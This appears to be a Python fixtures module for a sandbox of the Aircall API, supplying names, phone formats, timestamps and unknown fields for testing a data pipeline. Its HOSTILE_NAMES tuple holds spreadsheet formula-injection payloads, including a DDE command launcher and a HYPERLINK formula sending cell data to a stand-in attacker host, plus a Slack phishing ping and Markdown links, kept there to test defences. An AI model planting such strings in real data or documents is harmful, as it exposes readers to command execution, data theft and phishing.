"""The words and formats a sandbox account is made of: names, texts, phone formats, the unknown
fields the API may add, and the names aimed at the people who read the evidence.

Formats are the live API's (https://github.com/estuary/connectors, source-aircall-native/bruno/,
and https://developer.aircall.io/api-references/): ISO `created_at` with and without milliseconds,
display-formatted phone numbers, `"anonymous"` callers.
"""

from __future__ import annotations

from datetime import UTC, date, datetime, time

# Direct links in real responses point at the production API root, whatever host served them;
# clients must not follow them, so the sandbox keeps the real root rather than its own URL.
DIRECT_LINK_ROOT = "https://api.aircall.io"

# Unknown fields the real API may add at any time. The call one looks like personal data on
# purpose: the pipeline must drop unknown call fields, not store them.
USER_EXTRA_FIELD = "presence_device"
CALL_EXTRA_FIELD = "caller_location_hint"
WEBHOOK_EXTRA_FIELD = "last_delivery_status"

# Names anyone allowed to rename a user, team or number can type, aimed at the people who read the
# evidence: spreadsheet formulas (CSV injection), a Slack channel ping with a disguised link, and
# Markdown links and images. `hostile_names=True` gives them to users, teams and numbers; the
# first one always goes to the empty team and the unassigned number, which the checks report.
HOSTILE_NAMES = (
    "<!channel> key expired, sign in again at <https://evil.invalid/login|app.aircall.io>",
    '=HYPERLINK("https://evil.invalid/?q="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "[x](https://evil.invalid)",
    "![i](https://evil.invalid/i.png)",
    "\t=1+2",
)

MISSED_CALL_REASONS = (
    "out_of_opening_hours",
    "short_abandoned",
    "abandoned_in_ivr",
    "abandoned_in_classic",
    "no_available_agent",
    "agents_did_not_answer",
)

FIRST_NAMES = (
    "Alice", "Bruno", "Chloé", "David", "Emma", "Farid", "Grace", "Hugo", "Inès", "Jonas",
    "Karim", "Léa", "Marc", "Nina", "Oscar", "Paula", "Quentin", "Rosa", "Samir", "Tara",
    "Ugo", "Vera", "William", "Xenia", "Yann", "Zoé", "Amir", "Berta", "Colin", "Diane",
)
LAST_NAMES = (
    "Martin", "Bernard", "Dubois", "Thomas", "Robert", "Richard", "Petit", "Durand", "Leroy",
    "Moreau", "Simon", "Laurent", "Lefebvre", "Michel", "Garcia", "Smith", "Johnson", "Brown",
    "Miller", "Davis", "Wilson", "Taylor", "Clark", "Lewis", "Walker", "Hall", "Young", "King",
)
TEAM_NAMES = ("Sales", "Support", "Customer Success", "Billing", "Onboarding", "Partners", "Renewals", "VIP")
TAG_NAMES = ("Lead", "Complaint", "Callback", "Billing question")
COMMENT_TEXTS = (
    "Customer asked for a callback tomorrow morning.",
    "Invoice dispute, forwarded to billing.",
    "Wants a demo of the premium plan.",
    "Left a voicemail, will try again.",
    "Angry about the delivery delay, offered a discount.",
)
TIME_ZONES = ("Europe/Paris", "Europe/London", "America/New_York", "Etc/UTC")
LANGUAGES = ("en-US", "fr-FR", "en-GB", "de-DE")
SUBSTATUSES = ("always_opened", "always_opened", "always_opened", "always_closed", "Out for lunch")
NUMBER_MESSAGE_KINDS = (
    "welcome", "waiting", "ivr", "voicemail", "closed", "callback_later",
    "unanswered_call", "after_hours", "ringing_tone",
)

# Display formats the API returns, e.g. "+33 6 12 34 56 78" and "+1 617-610-5413", each built from
# a 10-digit national number (FR uses its first 9 digits).
def _fr(n: str) -> str:
    return f"+33 {n[0]} {n[1:3]} {n[3:5]} {n[5:7]} {n[7:9]}"


def _us(n: str) -> str:
    return f"+1 {n[0:3]}-{n[3:6]}-{n[6:10]}"


def _gb(n: str) -> str:
    return f"+44 {n[0:4]} {n[4:10]}"


def _de(n: str) -> str:
    return f"+49 {n[0:3]} {n[3:10]}"


COUNTRIES = (("FR", _fr), ("US", _us), ("GB", _gb), ("DE", _de))
ANONYMOUS = -1


def iso(moment: datetime, *, millis: bool) -> str:
    text = moment.astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%S")
    return f"{text}.000Z" if millis else f"{text}Z"


def day_start(day: date) -> int:
    return int(datetime.combine(day, time(0), tzinfo=UTC).timestamp())
